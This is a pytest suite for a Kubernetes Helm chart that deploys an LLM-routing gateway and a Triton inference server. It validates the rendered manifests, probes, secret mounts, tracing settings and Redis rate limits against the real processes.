"""The Helm chart and Grafana files: lint, valid manifests, and wiring checked against the real processes.

Every install scenario (``helm/ladder/ci/*-values.yaml``) is linted strictly, rendered, and validated against
the Kubernetes 1.30 schemas. The rendered gateway command is parsed by the real ``ladder serve``, the
gateway is then served on loopback and asked the very paths the probes and the ``helm test`` pod ask; the
rendered Triton arguments start the real ``tritonserver`` on a cpu export. Tools: scripts/install_helm.sh.
"""

from __future__ import annotations

import functools
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

ROOT = Path(__file__).resolve().parent.parent
CHART = ROOT / "helm" / "ladder"
SCENARIOS = sorted(p.name for p in (CHART / "ci").glob("*-values.yaml"))
GRAFANA = ROOT / "docs" / "grafana"
CONFIG_DIR = "/etc/ladder"  # where the chart mounts the gateway's ConfigMap
SECRETS_DIR = "/var/run/secrets/ladder"  # where the chart mounts credentials as files (LADDER_SECRETS_DIR)
CLIENT_KEY = "helm-test-client-key-0123"
SECRET_NAME = re.compile(r"KEY|SECRET|TOKEN|PASSWORD|CREDENTIAL", re.IGNORECASE)
INLINE_API_KEY = re.compile(r"\b(?:sk|pk|rk)-[A-Za-z0-9_-]{8,}")


def _helm() -> str | None:
    local = ROOT / ".tools" / "bin" / "helm"
    return str(local) if os.access(local, os.X_OK) else shutil.which("helm")


HELM = _helm()
needs_helm = pytest.mark.skipif(
    HELM is None, reason="helm is not installed: run scripts/install_helm.sh (puts it in .tools/bin/helm)"
)


def helm(*args: str) -> subprocess.CompletedProcess[str]:
    assert HELM is not None
    return subprocess.run([HELM, *args], capture_output=True, text=True, timeout=60, check=False)


@functools.cache
def rendered_text(scenario: str | None, *sets: str) -> str:
    values = ["-f", str(CHART / "ci" / scenario)] if scenario else []
    result = helm("template", "rel", str(CHART), "--namespace", "ai", *values, *(f"--set={s}" for s in sets))
    assert result.returncode == 0, result.stderr
    return result.stdout


def render(scenario: str | None, *sets: str) -> list[dict[str, Any]]:
    return [doc for doc in yaml.safe_load_all(rendered_text(scenario, *sets)) if doc]


def find(docs: list[dict[str, Any]], kind: str, component: str = "gateway") -> dict[str, Any]:
    matches = [
        d for d in docs if d["kind"] == kind and d["metadata"]["labels"].get("app.kubernetes.io/component") == component
    ]
    assert len(matches) == 1, f"expected one {kind} of {component}, found {len(matches)}"
    return matches[0]


def has(docs: list[dict[str, Any]], kind: str, component: str) -> bool:
    return any(
        d["kind"] == kind and d["metadata"]["labels"].get("app.kubernetes.io/component") == component for d in docs
    )


def container(deployment: dict[str, Any], name: str) -> dict[str, Any]:
    return next(c for c in deployment["spec"]["template"]["spec"]["containers"] if c["name"] == name)


def probe_paths(c: dict[str, Any]) -> dict[str, str]:
    return {kind: c[kind]["httpGet"]["path"] for kind in ("startupProbe", "livenessProbe", "readinessProbe")}


def named_port(c: dict[str, Any], name: str) -> int:
    return int(next(p["containerPort"] for p in c["ports"] if p["name"] == name))


def env_of(c: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {e["name"]: e for e in c.get("env", [])}


def configmap_files(docs: list[dict[str, Any]]) -> dict[str, str]:
    data: dict[str, str] = find(docs, "ConfigMap")["data"]
    return data


def values_of(scenario: str | None) -> dict[str, Any]:
    """The chart's values as helm merges them (defaults, then the scenario file)."""

    def merge(base: dict[str, Any], over: dict[str, Any]) -> dict[str, Any]:
        out = dict(base)
        for key, value in over.items():
            out[key] = merge(out[key], value) if isinstance(value, dict) and key in out else value
        return out

    values = yaml.safe_load((CHART / "values.yaml").read_text(encoding="utf-8"))
    if scenario:
        values = merge(values, yaml.safe_load((CHART / "ci" / scenario).read_text(encoding="utf-8")))
    return dict(values)


# ---- lint, schema, documentation ---------------------------------------------------------------------------


@needs_helm
@pytest.mark.parametrize("scenario", [None, *SCENARIOS])
def test_lint_strict(scenario: str | None) -> None:
    values = ["-f", str(CHART / "ci" / scenario)] if scenario else []
    result = helm("lint", "--strict", str(CHART), *values)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "0 chart(s) failed" in result.stdout


@needs_helm
@pytest.mark.parametrize("scenario", SCENARIOS)
def test_rendered_manifests_are_valid_for_kubernetes_1_30(scenario: str, tmp_path: Path) -> None:
    pytest.importorskip("kubernetes_validate", reason="run scripts/install_helm.sh (kubernetes-validate)")
    path = tmp_path / "manifests.yaml"
    path.write_text(rendered_text(scenario), encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "kubernetes_validate", "-k", "1.30.0", "--strict", str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    kinds = {d["kind"] for d in render(scenario)}
    passed = set(re.findall(r"passed for resource (\w+)/", output))
    # Only the Prometheus Operator's CRD has no schema among Kubernetes' own.
    assert passed == {k.lower() for k in kinds - {"ServiceMonitor"}}, output


@needs_helm
def test_values_schema_refuses_typos_and_chart_managed_settings() -> None:
    typo = helm("lint", "--strict", str(CHART), "--set", "gateway.replicas=3")
    assert typo.returncode != 0 and "replicas" in typo.stdout
    inline = helm("lint", "--strict", str(CHART), "--set", f"gateway.settings.api_keys={CLIENT_KEY}")
    assert inline.returncode != 0 and "api_keys" in inline.stdout
    no_secret = helm("template", "rel", str(CHART), "--set", "gateway.auth.existingSecret=")
    assert no_secret.returncode != 0 and "gateway.auth.existingSecret" in no_secret.stderr


def test_every_value_has_a_doc_comment() -> None:
    """``# --`` above every leaf value (or above the free-form map holding it), as helm-docs reads them."""
    lines = (CHART / "values.yaml").read_text(encoding="utf-8").splitlines()
    key = re.compile(r"^(\s*)([A-Za-z_][\w.-]*):(.*)$")
    stack: list[tuple[int, bool]] = []  # (indent, documented) of the enclosing keys
    undocumented = []
    for i, line in enumerate(lines):
        match = key.match(line)
        if not match:
            continue
        indent, name, rest = len(match[1]), match[2], match[3].strip()
        while stack and stack[-1][0] >= indent:
            stack.pop()
        j = i - 1
        while j >= 0 and lines[j].strip().startswith("#"):
            j -= 1
        documented = any(lines[k].strip().startswith("# --") for k in range(j + 1, i))
        inherited = any(doc for _, doc in stack)
        following = next((ln for ln in lines[i + 1 :] if ln.strip() and not ln.strip().startswith("#")), "")
        nested = len(following) - len(following.lstrip())
        leaf = bool(rest) or nested <= indent or following.strip().startswith("- ")
        if leaf and not documented and not inherited:
            undocumented.append(f"values.yaml:{i + 1}: {name}")
        stack.append((indent, documented or inherited))
    assert not undocumented, "\n".join(undocumented)


# ---- the gateway: command, probes and settings against the real gateway ------------------------------------


def _clean_ladder_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in list(os.environ):
        if name.startswith(("LADDER_", "OTEL_")):
            monkeypatch.delenv(name)


def _apply_env(c: dict[str, Any], monkeypatch: pytest.MonkeyPatch, secrets: Path | None = None) -> None:
    """The container's environment; its secrets folder is ``secrets`` here (see :func:`_mount_secrets`)."""
    for name, entry in env_of(c).items():
        assert "value" in entry, f"{name}: credentials are mounted as files, not put in the environment"
        value = str(secrets) if name == "LADDER_SECRETS_DIR" and secrets else str(entry["value"])
        monkeypatch.setenv(name, value)


def secret_files(deployment: dict[str, Any]) -> dict[str, dict[str, str]]:
    """The files of the gateway's projected ``secrets`` volume: file name -> {name: Secret, key: its key}."""
    volume = next(v for v in deployment["spec"]["template"]["spec"]["volumes"] if v["name"] == "secrets")
    return {
        item["path"]: {"name": source["secret"]["name"], "key": item["key"]}
        for source in volume["projected"]["sources"]
        for item in source["secret"]["items"]
    }


def _mount_secrets(deployment: dict[str, Any], directory: Path, **held: str) -> Path:
    """Lay out the secrets volume as the pod sees it, with ``held`` values (else stand-ins) in its files."""
    directory.mkdir(parents=True, exist_ok=True)
    for path in secret_files(deployment):
        stand_in = CLIENT_KEY if path == "LADDER_API_KEYS" else f"upstream-{path.lower()}"
        (directory / path).write_text(held.get(path, stand_in) + "\n", encoding="utf-8")
    return directory


def _write_config(docs: list[dict[str, Any]], directory: Path) -> None:
    """The ConfigMap's files as the pod sees them."""
    for name, text in configmap_files(docs).items():
        data = yaml.safe_load(text)
        if name == "pool.yaml":  # the image has no checkout: its checkpoint is the one in the wheel
            checkpoint = data["routing"].get("checkpoint")
            assert checkpoint is None, f"checkpoint {checkpoint}: CI pools use the one shipped in the wheel"
        (directory / name).write_text(yaml.safe_dump(data), encoding="utf-8")


def _serve_settings(c: dict[str, Any], config_dir: Path) -> Any:
    """Run the rendered command through the real ``ladder`` CLI; return the settings ``serve`` was given."""
    from typer.testing import CliRunner

    import ladder.gateway.server
    from ladder.cli.main import app

    assert c["command"] == ["ladder"]
    args = [a.replace(CONFIG_DIR, str(config_dir)) for a in c["args"]]
    captured: list[Any] = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(ladder.gateway.server, "serve", lambda settings, *_: captured.append(settings))
        result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, f"{result.output}\n{result.exception!r}"
    assert len(captured) == 1
    return captured[0]


@needs_helm
@pytest.mark.parametrize("scenario", [None, "cpu-embedded-values.yaml"])
def test_gateway_container_matches_the_real_gateway(
    scenario: str | None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ladder.bench.server_thread import ServerThread
    from ladder.gateway.app import create_app

    docs = render(scenario)
    deployment = find(docs, "Deployment")
    gateway = container(deployment, "gateway")
    service = find(docs, "Service")
    _clean_ladder_env(monkeypatch)
    _apply_env(gateway, monkeypatch, _mount_secrets(deployment, tmp_path / "secrets"))
    _write_config(docs, tmp_path)
    settings = _serve_settings(gateway, tmp_path)

    assert settings.host == "0.0.0.0"
    assert settings.port == named_port(gateway, "http")
    assert service["spec"]["ports"][0]["targetPort"] == "http"
    assert not settings.auth_disabled and [k.get_secret_value() for k in settings.api_keys] == [CLIENT_KEY]
    if values_of(scenario)["gateway"]["pool"]:
        assert settings.pool == tmp_path / "pool.yaml"
    else:
        assert "--pool" not in gateway["args"]  # the image's shipped pool

    test_pod = find(docs, "Pod", "test")
    script = test_pod["spec"]["containers"][0]["command"][-1]
    base = f"http://{service['metadata']['name']}:{service['spec']['ports'][0]['port']}"
    assert f'base="{base}"' in script
    test_paths = re.findall(r'"\$base(/[^"]*)"', script)
    assert test_paths == ["/healthz", "/v1/models"]
    # the test pod reads the client keys from the same Secret key, mounted as the same file name
    test_volume = test_pod["spec"]["volumes"][0]["secret"]
    test_file = {
        test_volume["items"][0]["path"]: {"name": test_volume["secretName"], "key": test_volume["items"][0]["key"]}
    }
    assert test_file.items() <= secret_files(deployment).items()
    assert f"cat {SECRETS_DIR}/LADDER_API_KEYS" in script
    assert test_pod["spec"]["containers"][0]["volumeMounts"][0]["mountPath"] == SECRETS_DIR

    with ServerThread(create_app(settings)) as server, httpx.Client(base_url=server.url, timeout=30) as http:
        for kind, path in probe_paths(gateway).items():
            assert http.get(path).status_code == 200, f"{kind} {path}"
        assert http.get("/healthz").json() == {"status": "ok"}
        auth = {"Authorization": f"Bearer {CLIENT_KEY.split(',')[0]}"}  # what the test pod sends
        for path in test_paths:
            assert http.get(path, headers=auth).status_code == 200, path
        assert http.get("/v1/models").status_code == 401  # so the test pod needs the key it is given
        models = {m["id"] for m in http.get("/v1/models", headers=auth).json()["data"]}
        assert {m.name for m in settings_pool(settings)} <= models
        assert http.get("/metrics").text.count("ladder_") > 0


def settings_pool(settings: Any) -> Any:
    from ladder.core.pool import load_pool

    return load_pool(settings.pool).models


@needs_helm
@pytest.mark.parametrize("scenario", [None, *SCENARIOS])
def test_no_secret_is_inline_or_in_the_environment(scenario: str | None) -> None:
    from ladder.core.pool import load_pool
    from ladder.core.router import default_pool_path

    docs = render(scenario)
    text = rendered_text(scenario)
    assert not [d for d in docs if d["kind"] == "Secret"], "the chart must only reference existing Secrets"
    assert not INLINE_API_KEY.search(text)
    for doc in docs:
        spec = doc.get("spec", {}).get("template", {}).get("spec", doc.get("spec", {}))
        for c in spec.get("containers", []) + spec.get("initContainers", []):
            for name, entry in env_of(c).items():
                assert "secretKeyRef" not in entry.get("valueFrom", {}), f"{c['name']}: {name} is in the env"
                if SECRET_NAME.search(name) and name != "LADDER_SECRETS_DIR":
                    assert "value" not in entry, f"{c['name']}: {name} is inline"
    settings = yaml.safe_load(configmap_files(docs)["settings.yaml"])
    assert not {"api_keys", "auth_disabled"} & set(settings)
    # Every key the pool reads comes from the upstream Secret, as a file named like its variable.
    pool_text = configmap_files(docs).get("pool.yaml")
    if pool_text:
        models = yaml.safe_load(pool_text)["models"]
        wanted = {m["upstream"].get("api_key_env") for m in models} - {None}
    else:
        wanted = {m.upstream.api_key_env for m in load_pool(default_pool_path()).models} - {None}
    deployment = find(docs, "Deployment")
    files = secret_files(deployment)
    assert wanted <= set(files)
    assert env_of(container(deployment, "gateway"))["LADDER_SECRETS_DIR"]["value"] == SECRETS_DIR
    mounts = {m["name"]: m for m in container(deployment, "gateway")["volumeMounts"]}
    assert mounts["secrets"]["mountPath"] == SECRETS_DIR and mounts["secrets"]["readOnly"] is True


# ---- Triton: wiring, resources, tracing, and the real tritonserver -----------------------------------------


@needs_helm
@pytest.mark.parametrize("scenario", ["gpu-triton-values.yaml", "arm64-dgx-spark-values.yaml"])
def test_gateway_is_pointed_at_the_triton_service(scenario: str) -> None:
    from ladder.gateway.triton_scorer import TritonScorerSettings

    docs = render(scenario)
    settings = yaml.safe_load(configmap_files(docs)["settings.yaml"])
    triton_service = find(docs, "Service", "triton")
    triton = container(find(docs, "Deployment", "triton"), "triton")
    grpc = next(p for p in triton_service["spec"]["ports"] if p["name"] == "grpc")
    client = TritonScorerSettings(**settings["triton"])
    assert settings["scorer"] == "triton"
    assert client.url == f"{triton_service['metadata']['name']}.ai.svc:{grpc['port']}"
    assert client.on_unavailable == "embedded"  # Triton down: the gateway scores in-process
    assert f"--grpc-port={named_port(triton, grpc['targetPort'])}" in triton["args"]
    assert f"--load-model={client.model}" in triton["args"]


@needs_helm
def test_the_gateway_accepts_the_rendered_triton_settings(tmp_path: Path) -> None:
    from ladder.gateway.settings import load_settings

    docs = render("gpu-triton-values.yaml")
    _write_config(docs, tmp_path)
    settings = load_settings(tmp_path / "settings.yaml", auth_disabled=True)
    rendered = yaml.safe_load(configmap_files(docs)["settings.yaml"])["triton"]
    assert settings.scorer == "triton"
    assert settings.triton.model_dump(include=set(rendered)) == rendered


@needs_helm
def test_placement_and_gpu_resources_per_scenario() -> None:
    cpu = render("cpu-embedded-values.yaml")
    assert not has(cpu, "Deployment", "triton") and not has(cpu, "Service", "triton")
    assert "scorer" not in yaml.safe_load(configmap_files(cpu)["settings.yaml"])
    assert (
        find(cpu, "HorizontalPodAutoscaler")["spec"]["scaleTargetRef"]["name"]
        == (find(cpu, "Deployment")["metadata"]["name"])
    )

    gpu = find(render("gpu-triton-values.yaml"), "Deployment", "triton")["spec"]["template"]["spec"]
    triton = next(c for c in gpu["containers"] if c["name"] == "triton")
    assert triton["resources"]["limits"]["nvidia.com/gpu"] == 1
    assert {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"} in gpu["tolerations"]
    export = gpu["initContainers"][0]
    repository = next(a.split("=", 1)[1] for a in triton["args"] if a.startswith("--model-repository="))
    assert export["args"][export["args"].index("--out") + 1] == repository
    mounts = {m["name"]: m["mountPath"] for m in export["volumeMounts"]}
    assert Path(repository).parent == Path(mounts["model-repository"])  # ladder export stages beside --out
    assert probe_paths(triton)["readinessProbe"] == "/v2/health/ready"

    cpu_triton = render("gpu-triton-values.yaml", "triton.gpu.enabled=false")
    limits = container(find(cpu_triton, "Deployment", "triton"), "triton")["resources"]["limits"]
    assert "nvidia.com/gpu" not in limits

    spark = render("arm64-dgx-spark-values.yaml")
    for component in ("gateway", "triton"):
        pod = find(spark, "Deployment", component)["spec"]["template"]["spec"]
        assert pod["nodeSelector"]["kubernetes.io/arch"] == "arm64"
    spark_triton = container(find(spark, "Deployment", "triton"), "triton")
    assert spark_triton["image"].startswith("nvcr.io/nvidia/tritonserver:")
    assert spark_triton["image"].endswith("-py3")


@needs_helm
def test_cpu_flavour_serves_the_cpu_image_by_digest_without_a_gpu() -> None:
    values = values_of("cpu-triton-values.yaml")
    docs = render("cpu-triton-values.yaml")
    pod = find(docs, "Deployment", "triton")["spec"]["template"]["spec"]
    triton = container({"spec": {"template": {"spec": pod}}}, "triton")
    image = values["triton"]["cpuImage"]
    version = yaml.safe_load((CHART / "Chart.yaml").read_text(encoding="utf-8"))["appVersion"]
    assert triton["image"] == f"{image['repository']}:{version}@{image['digest']}"
    assert "initContainers" not in pod and "nvidia.com/gpu" not in str(triton["resources"])
    assert "--model-repository=/models" in triton["args"]  # the repository baked into the image
    assert [v["name"] for v in pod["volumes"]] == ["dshm", "tmp"]  # /tmp: Triton's root is read-only
    gateway = container(find(docs, "Deployment"), "gateway")
    pinned = values["gateway"]["image"]
    assert gateway["image"] == f"{pinned['repository']}:{version}@{pinned['digest']}"
    assert "@" not in container(find(render(None), "Deployment"), "gateway")["image"]  # no digest: the tag alone
    refused = helm("template", "rel", str(CHART), "--set", "gateway.image.digest=latest")
    assert refused.returncode != 0 and "digest" in refused.stderr


@needs_helm
def test_the_export_init_container_is_a_valid_ladder_export() -> None:
    import typer

    from ladder.cli.main import app

    pod = find(render("gpu-triton-values.yaml"), "Deployment", "triton")["spec"]["template"]["spec"]
    export = pod["initContainers"][0]
    assert export["command"] == ["ladder"] and export["args"][0] == "export"
    command = typer.main.get_command(app)
    sub = command.commands["export"]  # type: ignore[attr-defined]
    context = sub.make_context("export", list(export["args"][1:]))
    assert context.params["flavour"] == "gpu" and str(context.params["out"]).startswith("/models/")


@needs_helm
@pytest.mark.parametrize("scenario", ["gpu-triton-values.yaml", "arm64-dgx-spark-values.yaml"])
def test_otel_environment_and_triton_trace_config(scenario: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from ladder.gateway.tracing import provider_from_env, tracing_configured

    values = values_of(scenario)["tracing"]
    docs = render(scenario)
    gateway = container(find(docs, "Deployment"), "gateway")
    env = {name: e.get("value") for name, e in env_of(gateway).items()}
    assert env["OTEL_EXPORTER_OTLP_ENDPOINT"] == values["otlpEndpoint"]
    assert env["OTEL_SERVICE_NAME"] == values["gatewayServiceName"]
    assert env["OTEL_TRACES_SAMPLER"] == values["sampler"]

    _clean_ladder_env(monkeypatch)
    _apply_env(gateway, monkeypatch)
    assert tracing_configured()
    provider = provider_from_env()
    assert provider is not None
    try:
        assert provider.resource.attributes["service.name"] == values["gatewayServiceName"]  # type: ignore[attr-defined]
        assert provider.resource.attributes["k8s.namespace.name"] == "ai"  # type: ignore[attr-defined]
        assert values["sampler"].split("_")[0].lower() in provider.sampler.get_description().lower()  # type: ignore[attr-defined]
    finally:
        provider.shutdown()  # type: ignore[attr-defined]

    args = container(find(docs, "Deployment", "triton"), "triton")["args"]
    trace = [a.removeprefix("--trace-config=") for a in args if a.startswith("--trace-config=")]
    assert "mode=opentelemetry" in trace
    assert f"opentelemetry,url={values['otlpEndpoint']}/v1/traces" in trace
    assert f"opentelemetry,resource=service.name={values['tritonServiceName']}" in trace


@needs_helm
def test_tracing_off_sets_no_otel_environment() -> None:
    docs = render("cpu-embedded-values.yaml")
    assert not [n for n in env_of(container(find(docs, "Deployment"), "gateway")) if n.startswith("OTEL_")]


class _OtlpSink:
    """Counts OTLP/HTTP trace exports (Triton sends OTLP/JSON to ``/v1/traces``)."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        sink = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length", "0")))
                sink.paths.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def endpoint(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture()
def otlp_sink() -> Iterator[_OtlpSink]:
    sink = _OtlpSink()
    yield sink
    sink.close()


@needs_helm
def test_the_real_tritonserver_runs_the_rendered_arguments(otlp_sink: _OtlpSink, tmp_path: Path) -> None:
    """The chart's tritonserver arguments (explicit load of ``router``, tracing) on the cpu export, here."""
    import time

    import triton_helpers as th

    from ladder.core.loopback import free_port
    from ladder.export.triton_server import TritonNotInstalled, TritonServer

    sets = (f"tracing.otlpEndpoint={otlp_sink.endpoint}", "tracing.tritonRate=1")
    docs = render("gpu-triton-values.yaml", *sets)
    triton = container(find(docs, "Deployment", "triton"), "triton")
    assert triton["command"] == ["tritonserver"]
    ports = {p["name"]: p["containerPort"] for p in triton["ports"]}
    th.require_encoder()
    try:
        TritonServer(tmp_path, venv=None)
    except TritonNotInstalled as exc:
        pytest.skip(f"tritonserver cannot be used here: {exc}")
    repository = th.cpu_repository()

    class Rendered(TritonServer):
        """The rendered arguments with this machine's paths and free ports."""

        def command(self) -> list[str]:
            local = {
                "--model-repository": str(self.repository),
                "--http-port": str(self.http_port),
                "--grpc-port": str(self.grpc_port),
                "--metrics-port": str(free_port()),
            }
            args = []
            for arg in triton["args"]:
                flag = arg.partition("=")[0]
                args.append(f"{flag}={local[flag]}" if flag in local else arg)
            backends = self.binary.parent.parent / "backends"
            local_only = [
                f"--backend-directory={backends}",
                "--http-address=127.0.0.1",
                "--trace-config=opentelemetry,bsp_schedule_delay=100",  # export spans at once
            ]
            return [str(self.binary), *args, *local_only]

    assert set(ports) == {"http", "grpc", "metrics"}
    with Rendered(repository, log_path=tmp_path / "triton.log") as server:
        for kind, path in probe_paths(triton).items():
            assert httpx.get(f"{server.http_url}{path}").status_code == 200, f"{kind} {path}"
        index = httpx.post(f"{server.http_url}/v2/repository/index", json={}).json()
        ready = {m["name"] for m in index if m.get("state") == "READY"}
        assert ready == {"router", "encoder", "head"}  # the ensemble loads its parts; nothing else
        body = {
            "inputs": [
                {"name": "input_ids", "shape": [1, 3], "datatype": "INT64", "data": [0, 5, 2]},
                {"name": "attention_mask", "shape": [1, 3], "datatype": "INT64", "data": [1, 1, 1]},
            ]
        }
        answer = httpx.post(f"{server.http_url}/v2/models/router/infer", json=body).json()
        assert len(answer["outputs"][0]["data"]) == len(th.LABELS)
        deadline = time.monotonic() + 10
        while not otlp_sink.paths and time.monotonic() < deadline:
            time.sleep(0.1)
    assert "/v1/traces" in otlp_sink.paths, server.log_tail()


# ---- shared state (Redis) and client key profiles, from existing Secrets -----------------------------------

REDIS_SCENARIO = "multi-replica-redis-values.yaml"


@needs_helm
def test_replicas_share_a_redis_a_postgres_and_key_profiles_from_secrets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The rendered Secret references reach the real ``ladder serve`` settings, and the gateway built from
    them keeps its rate limits in the real Redis under the configured prefix."""
    from gateway_support.redis_server import running_redis

    from ladder.bench.server_thread import ServerThread
    from ladder.gateway.app import create_app

    docs = render(REDIS_SCENARIO)
    assert has(docs, "HorizontalPodAutoscaler", "gateway") and has(docs, "PodDisruptionBudget", "gateway")
    deployment = find(docs, "Deployment")
    gateway = container(deployment, "gateway")
    files = secret_files(deployment)
    assert files["LADDER_REDIS_URL"] == {"name": "ladder-redis", "key": "redis-url"}
    assert files["LADDER_KEY_PROFILES"] == {"name": "ladder-key-profiles", "key": "key-profiles"}
    assert files["LADDER_TRAFFIC_DB"] == {"name": "ladder-postgres", "key": "traffic-db-url"}
    profile_key = "helm-test-profile-key-0123"
    profiles = [{"name": "team-a", "key": profile_key, "tolerance": 0.2, "requests_per_minute": 2}]
    with running_redis(tmp_path) as redis_url:
        _clean_ladder_env(monkeypatch)
        held = {"LADDER_REDIS_URL": redis_url, "LADDER_KEY_PROFILES": json.dumps(profiles)}
        held["LADDER_TRAFFIC_DB"] = "postgresql+psycopg://ladder:hunter2@postgres:5432/ladder"
        _apply_env(gateway, monkeypatch, _mount_secrets(deployment, tmp_path / "secrets", **held))
        _write_config(docs, tmp_path)
        settings = _serve_settings(gateway, tmp_path)
        assert settings.redis_url.get_secret_value() == redis_url
        assert settings.traffic_db == held["LADDER_TRAFFIC_DB"]
        settings = settings.model_copy(update={"traffic_db": None})  # the database is tested in test_gateway_replicas
        assert [p.name for p in settings.key_profiles] == ["team-a"]
        assert settings.session_ttl_s == 7200 and settings.redis_prefix == "ladder:prod:"
        auth = {"Authorization": f"Bearer {profile_key}"}
        body = {"messages": [{"role": "user", "content": "hello"}]}
        app = create_app(settings)
        with ServerThread(app) as server, httpx.Client(base_url=server.url, timeout=30) as http:
            statuses = [http.post("/v1/route", json=body, headers=auth).status_code for _ in range(3)]
            usage = http.get("/v1/usage", headers=auth).json()
        import redis

        keys = list(redis.Redis.from_url(redis_url, decode_responses=True).scan_iter("ladder:prod:*"))
    assert statuses == [200, 200, 429]  # two per minute, counted in Redis
    assert usage["state"] == "redis" and usage["client"] == "team-a"
    assert keys == ["ladder:prod:rate:team-a"]


@needs_helm
def test_redis_needs_its_secret_and_secrets_stay_out_of_the_settings() -> None:
    sets = ("--set", "gateway.redis.enabled=true", "--set", "gateway.redis.existingSecret=")
    missing = helm("template", "rel", str(CHART), *sets)
    assert missing.returncode != 0 and "gateway.redis.existingSecret" in missing.stderr
    for inline in ("redis_url=redis://:hunter2@redis:6379/0", "key_profiles=x"):
        refused = helm("lint", "--strict", str(CHART), "--set", f"gateway.settings.{inline}")
        assert refused.returncode != 0 and inline.split("=")[0] in refused.stdout
    default = secret_files(find(render(None), "Deployment"))
    assert "LADDER_REDIS_URL" not in default and "LADDER_KEY_PROFILES" not in default
    assert "LADDER_TRAFFIC_DB" not in default
    no_db_secret = helm("template", "rel", str(CHART), "--set", "gateway.postgres.enabled=true",
                        "--set", "gateway.postgres.existingSecret=")  # fmt: skip
    assert no_db_secret.returncode != 0 and "gateway.postgres.existingSecret" in no_db_secret.stderr


# ---- names, selectors, notes -------------------------------------------------------------------------------


@needs_helm
def test_names_are_cut_at_63_characters_and_stay_distinct() -> None:
    long = "x" * 70
    docs = render("gpu-triton-values.yaml", f"fullnameOverride={long}")
    names = {(d["kind"], d["metadata"]["name"]) for d in docs}
    assert all(len(name) <= 63 and not name.endswith("-") for _, name in names)
    gateway = find(docs, "Service")["metadata"]["name"]
    triton = find(docs, "Service", "triton")["metadata"]["name"]
    assert gateway != triton and triton.endswith("-triton")


@needs_helm
def test_selectors_match_their_pods() -> None:
    docs = render("gpu-triton-values.yaml")
    for component in ("gateway", "triton"):
        labels = find(docs, "Deployment", component)["spec"]["template"]["metadata"]["labels"]
        selectors = [
            find(docs, "Deployment", component)["spec"]["selector"]["matchLabels"],
            find(docs, "Service", component)["spec"]["selector"],
            find(docs, "ServiceMonitor", component)["spec"]["selector"]["matchLabels"],
            find(docs, "NetworkPolicy", component)["spec"]["podSelector"]["matchLabels"],
        ]
        for selector in selectors:
            assert selector.items() <= labels.items()
    assert find(docs, "PodDisruptionBudget")["spec"]["selector"]["matchLabels"].items() <= (
        find(docs, "Deployment")["spec"]["template"]["metadata"]["labels"].items()
    )
    policy = find(docs, "NetworkPolicy", "triton")["spec"]["ingress"][0]
    gateway_pods = find(docs, "Deployment")["spec"]["template"]["metadata"]["labels"]
    assert policy["from"][0]["podSelector"]["matchLabels"].items() <= gateway_pods.items()
    monitor = find(docs, "ServiceMonitor")["spec"]["endpoints"][0]
    assert monitor["port"] in {p["name"] for p in find(docs, "Service")["spec"]["ports"]}
    assert monitor["path"] == "/metrics"


@needs_helm
def test_notes_give_the_openai_base_url_and_port_forward(tmp_path: Path) -> None:
    """NOTES.txt (helm renders it only on install, so a copy of the chart wraps it in a ConfigMap)."""
    chart = tmp_path / "ladder"
    shutil.copytree(CHART, chart)
    notes = (chart / "templates" / "NOTES.txt").read_text(encoding="utf-8")
    (chart / "templates" / "NOTES.txt").unlink()
    (chart / "templates" / "_notes.tpl").write_text(
        '{{- define "test.notes" -}}\n' + notes + "{{- end }}\n", encoding="utf-8"
    )
    (chart / "templates" / "notes.yaml").write_text(
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: notes\n"
        'data:\n  notes: {{ include "test.notes" . | toJson }}\n',
        encoding="utf-8",
    )
    result = helm("template", "rel", str(chart), "--namespace", "ai", "--show-only", "templates/notes.yaml")
    assert result.returncode == 0, result.stderr
    text = yaml.safe_load(result.stdout)["data"]["notes"]
    assert "http://rel-ladder.ai.svc:8000/v1" in text
    assert "kubectl --namespace ai port-forward svc/rel-ladder 8000:8000" in text
    assert "helm test rel" in text


# ---- Dockerfiles and Grafana -------------------------------------------------------------------------------


def test_gateway_image_agrees_with_the_chart() -> None:
    """The Dockerfile's stages as the chart uses them (tests/test_images.py builds and runs them)."""
    dockerfile = (ROOT / "deploy" / "gateway.Dockerfile").read_text(encoding="utf-8")
    values = values_of(None)["gateway"]
    stages = {block.split("\n", 1)[0].rsplit(" AS ", 1)[-1]: block for block in dockerfile.split("\nFROM ")[1:]}
    last_stage = dockerfile.rsplit("\nFROM ", 1)[1]
    assert last_stage == stages["gateway"]  # the default target
    assert f"USER {values['podSecurityContext']['runAsUser']}:" in last_stage
    assert f"EXPOSE {values['port']}" in last_stage
    # the wheel (default pool and checkpoint inside), never an editable checkout
    assert "/wheels/ladder_router-" in last_stage and "pip install -e" not in dockerfile
    assert "COPY ladder" not in last_stage and "torch" not in last_stage
    assert 'ENTRYPOINT ["ladder"]' in last_stage
    assert 'CMD ["serve", "--host", "0.0.0.0"' in last_stage
    assert "ladder setup" in stages["build"] and "--platform=$BUILDPLATFORM" in dockerfile
    assert "torch" in stages["export"] and 'ENTRYPOINT ["ladder"]' in stages["export"]
